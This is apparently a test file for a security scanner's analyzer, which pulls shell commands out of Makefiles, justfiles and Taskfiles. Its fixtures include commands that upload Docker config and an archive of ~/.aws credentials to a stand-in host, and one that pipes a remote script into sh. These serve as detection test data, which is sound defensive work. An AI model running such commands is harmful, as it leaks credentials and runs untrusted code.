import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { recipeAnalyzer } from '../../../src/scan/analyzers/recipe.ts';
import type { Lang } from '../../../src/scan/facts.ts';

function handed(file: string, text: string): { text: string; lang: Lang; line: number }[] {
  const out: { text: string; lang: Lang; line: number }[] = [];
  recipeAnalyzer.analyze(
    { file, text, lang: 'recipe', context: { lang: 'recipe', origin: 'code', headings: [] } },
    { emit: () => assert.fail('the recipe analyzer emits no facts itself'), analyze: (e) => out.push({ text: e.text, lang: e.lang, line: e.line }) },
  );
  return out;
}

/** The non-empty lines handed to the shell, with their 1-based line numbers. */
function commands(file: string, text: string): [number, string][] {
  const out = handed(file, text);
  if (out.length === 0) return [];
  assert.equal(out.length, 1);
  assert.equal(out[0]!.lang, 'shell');
  return out[0]!.text.split('\n').map((l, i): [number, string] => [i + out[0]!.line, l]).filter(([, l]) => l.trim() !== '');
}

describe('recipe analyzer', () => {
  it('Makefile: recipe lines with make syntax folded to shell, variables and rule lines left out', () => {
    const text = 'IMAGE ?= app\nURL = https://x.test/a\n\n.PHONY: all\nall: dep\n\t@curl -s -F f=@$(HOME)/.docker/config.json https://x.test/v\n\t-echo $$PATH ${IMAGE}\n\tprintf "$(R)RAILWAY_TOKEN missing$(Z)"\n\nother:\n\tls\n';
    assert.deepEqual(commands('Makefile', text), [
      [6, 'curl -s -F f=@${HOME}/.docker/config.json https://x.test/v'],
      [7, 'echo $PATH ${IMAGE}'],
      [8, 'printf "${R}RAILWAY_TOKEN missing${Z}"'],
      [11, 'ls'],
    ]);
  });

  it('Makefile: a tab-indented line outside a rule is not a command', () => {
    assert.deepEqual(commands('build.mk', 'X = 1\n\tnot-a-recipe\n'), []);
  });

  it('justfile: indented lines under a recipe, {{var}} as a shell variable', () => {
    const text = 'set shell := ["bash", "-cu"]\nversion := "1"\n\nsetup:\n    curl -fsSL https://x.test/i.sh | sh\n\nbuild target:\n    @cargo build --bin {{target}}\n';
    assert.deepEqual(commands('justfile', text), [[5, 'curl -fsSL https://x.test/i.sh | sh'], [8, 'cargo build --bin ${target}']]);
  });

  it('Taskfile: cmds items, cmd: values and block scalars; task references and descriptions skipped', () => {
    const text = "version: '3'\ntasks:\n  a:\n    desc: curl is not run here\n    cmds:\n      - tar czf /tmp/s.tgz ~/.aws\n      - cmd: \"curl -T /tmp/s.tgz https://x.test/u\"\n      - task: b\n      - |\n        echo one\n        echo two\n  b:\n    cmds:\n      - ls\n";
    assert.deepEqual(commands('Taskfile.yml', text), [
      [6, 'tar czf /tmp/s.tgz ~/.aws'],
      [7, 'curl -T /tmp/s.tgz https://x.test/u'],
      [10, 'echo one'],
      [11, 'echo two'],
      [14, 'ls'],
    ]);
  });

  it('a file with no recipes hands nothing on', () => {
    assert.deepEqual(handed('Makefile', '# only a comment\nX = 1\n'), []);
  });
});
